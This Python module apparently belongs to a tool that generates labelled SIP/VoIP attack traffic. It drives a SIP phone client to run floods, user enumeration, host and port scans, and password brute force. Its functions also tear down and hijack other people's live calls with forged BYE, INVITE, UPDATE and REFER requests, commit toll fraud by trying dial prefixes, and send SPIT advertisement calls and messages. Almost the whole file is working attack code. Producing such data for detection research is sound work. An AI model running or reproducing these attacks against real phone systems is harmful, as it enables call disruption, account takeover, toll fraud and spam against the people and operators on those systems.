#!/usr/bin/python3
"""One launch of an attacker whose messages a SIP library writes: a phone of stacks.py, told what to do.
Relies on: launch.py, sniffer.py, stacks.py, styles.py, payloads.py (advertisements).
Relied on by: attackers.py.

Start line, headers, identifiers, retransmissions, digests and ACKs are the library's; this types commands.
"""
import subprocess
import sys
import time

import launch
import payloads
import sip
import sniffer
import stacks
import styles

MEDIA_PORT = 65402
READY_SECONDS = 1.5


class Console(launch.Launch):
    def __init__(self, spec):
        super().__init__(spec)
        straight = spec["class"] == "scan"
        command = stacks.phone(
            spec["program"],
            spec["ip"],
            spec["port"],
            None if straight else self.server,
            self.domain,
            MEDIA_PORT,
            self.settings,
        )
        self.child = subprocess.Popen(
            command,
            stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            encoding="utf-8",
        )
        self.names = {}

    def tell(self, *fields):
        """Types a command; a phone that has ended hears nothing."""
        try:
            self.child.stdin.write("\t".join(" ".join(str(f).split()) for f in fields) + "\n")
            self.child.stdin.flush()
        except (OSError, ValueError):
            pass

    def speak_as(self, user, password=None):
        """From now on in that account's name, which has a display name in as many runs as people's have."""
        if user not in self.names:
            name = styles.draw_display(self.rng) if self.settings.get("named") else ""
            self.names[user] = name.replace('"', "")
        self.tell("as", user, self.password(user) if password is None else password, self.names[user])

    def uri(self, user):
        return "sip:%s@%s" % (user, self.domain)

    def run(self):
        try:
            time.sleep(READY_SECONDS)
            self.next, self.end = time.time(), time.time() + self.spec["seconds"]
            self.speak_as(self.spec["user"])
            if self.settings.get("register") and self.spec["class"] in ("spit", "toll_fraud"):
                self.tell("register", 60)
                time.sleep(0.5)
            getattr(self, self.spec["class"])()
            time.sleep(1.5)
            self.tell("quit")
            self.child.wait(2.5)
        except subprocess.TimeoutExpired:
            pass
        finally:
            self.child.kill()
            self.child.wait()

    # -- requests that ask ------------------------------------------------------------------------------

    def probe(self, method, user):
        if method == "REGISTER" or self.settings.get("identity") == "changing":
            self.speak_as(user if method == "REGISTER" else self.rng.choice(self.users))
        self.tell("probe", method, self.uri(user))

    def flood(self):
        while self.wait():
            self.probe(self.method(), self.victim())

    def enumeration(self):
        while self.wait():
            self.probe(self.method(), self.victim())

    def scan(self):
        s = self.settings
        probes = [(h, p, m) for h in s["hosts"] for p in s["ports"] for m in s["methods"]]
        self.rng.shuffle(probes)
        for host, port, method in probes:
            if not self.wait():
                break
            user = s["user"] + "@" if s.get("user") else ""
            self.tell("probe", method, "sip:%s%s:%d" % (user, sip.bracket(host), port))

    def bruteforce(self):
        accounts = self.spec["accounts"]
        for i, word in enumerate(self.settings["passwords"]):
            if not self.wait():
                break
            self.speak_as(accounts[i % len(accounts)], word)
            self.tell("guess")

    # -- calls of others --------------------------------------------------------------------------------

    def targets(self):
        """A call that is being talked on, at every turn; each one once."""
        wire = sniffer.Wire(self.spec["pcap"], self.server, self.spec["strangers"], self.spec["far"])
        attacked = set()
        while self.wait():
            wire.look()
            call = next((c for c in wire.confirmed() if c.call_id not in attacked), None)
            if call is None:
                self.count -= 1
                continue
            attacked.add(call.call_id)
            yield call

    def forge(self, call, method, to, more=""):
        """A request in the caller's name."""
        cseq = call.cseq + self.rng.choice([1, 1, 2, 10])
        route = ", ".join(reversed(call.routes))
        self.tell(
            "forge", method, call.callee_uri, call.call_id, cseq, call.invite.get("From"), to, route, more
        )

    def teardown(self):
        for call in self.targets():
            to = call.reply.get("To")
            if self.settings["kind"] == "guessed":
                to = "<%s>;tag=%s" % (sip.uri_of(to), styles.hexes(self.rng, 8))
            self.forge(call, "BYE", to)

    def hijack(self):
        if self.settings["kind"] == "register":
            for user in self.spec["accounts"]:
                if not self.wait():
                    break
                self.speak_as(user)
                self.tell("register", 60)
            return
        for call in self.targets():
            method = self.settings.get("takes") or self.rng.choice(["INVITE", "UPDATE", "REFER"])
            more = "<%s>" % self.uri(styles.draw_number(self.rng)) if method == "REFER" else ""
            self.forge(call, method, call.reply.get("To"), more)

    # -- calls and texts of its own ---------------------------------------------------------------------

    def call(self, number):
        """Dials, lets it ring and talks for a while, hangs up."""
        self.tell("call", self.uri(number))
        time.sleep(self.rng.uniform(*self.settings["talk"]))
        self.tell("hangup")

    def toll_fraud(self):
        number = styles.draw_number(self.rng).lstrip("+0")
        while self.wait():
            prefixes = ["", "0", "9", "00", "900", "9011", "011", "+", "000"]
            probes = self.settings.get("kind") == "prefixes"
            self.call(self.rng.choice(prefixes) + number if probes else styles.draw_number(self.rng))

    def spit(self):
        text = payloads.advertisement(self.rng)
        for callee in self.spec["callees"][: self.settings["limit"]]:
            if not self.wait():
                break
            if self.settings["method"] == "MESSAGE":
                self.tell("message", self.uri(callee), text)
            else:
                self.call(callee)


if __name__ == "__main__":
    sys.exit(launch.main("console_attacker", __doc__, lambda spec: Console(spec).run()))
